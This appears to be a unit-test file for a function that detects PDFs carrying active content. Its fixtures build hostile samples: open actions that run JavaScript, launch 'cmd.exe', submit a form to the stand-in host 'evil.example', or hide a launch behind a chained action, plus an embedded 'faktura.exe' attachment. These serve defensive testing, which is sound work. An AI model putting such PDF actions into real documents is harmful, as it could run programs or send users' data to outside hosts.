import { PDFDocument, PDFName, PDFString } from "@cantoo/pdf-lib";
import { describe, expect, it } from "vitest";
import { isActivePdf } from ".";

async function pdf(change: (made: PDFDocument) => unknown = () => {}): Promise<Uint8Array> {
  const made = await PDFDocument.create();
  made.addPage();
  await change(made);
  return made.save({ useObjectStreams: false });
}

function onOpen(made: PDFDocument, action: Record<string, unknown>): void {
  made.catalog.set(PDFName.of("OpenAction"), made.context.obj(action as never));
}

describe("a PDF", () => {
  it("that only shows pages, opens at one of them or links to the web is no danger", async () => {
    expect(await isActivePdf(await pdf())).toBe(false);
    const opened = await pdf((made) => onOpen(made, { S: "GoTo", D: [0, "Fit"] }));
    expect(await isActivePdf(opened)).toBe(false);
    const linked = await pdf((made) => {
      const uri = { S: "URI", URI: PDFString.of("https://example.cz") };
      const link = made.context.register(
        made.context.obj({ Type: "Annot", Subtype: "Link", A: uri } as never),
      );
      made.getPage(0).node.set(PDFName.of("Annots"), made.context.obj([link]));
    });
    expect(await isActivePdf(linked)).toBe(false);
  });

  it.each([
    ["runs a script", { S: "JavaScript", JS: PDFString.of("app.alert(1)") }],
    ["starts a program", { S: "Launch", F: PDFString.of("cmd.exe") }],
    ["sends a form", { S: "SubmitForm", F: PDFString.of("https://evil.example") }],
    ["hides it one action further", { S: "GoTo", Next: [{ S: "Launch" }] }],
  ])("that %s is found", async (_, action) => {
    expect(await isActivePdf(await pdf((made) => onOpen(made, action)))).toBe(true);
  });

  it("that carries another file is found, packed into object streams too", async () => {
    const made = await PDFDocument.create();
    made.addPage();
    await made.attach(Buffer.from("MZ"), "faktura.exe");
    expect(await isActivePdf(await made.save({ useObjectStreams: true }))).toBe(true);
  });

  it("that is damaged or without a page is refused", async () => {
    const torn = (await pdf()).slice(0, 40);
    await expect(isActivePdf(torn)).rejects.toMatchObject({ code: "templates.pdf_unreadable" });
  });
});
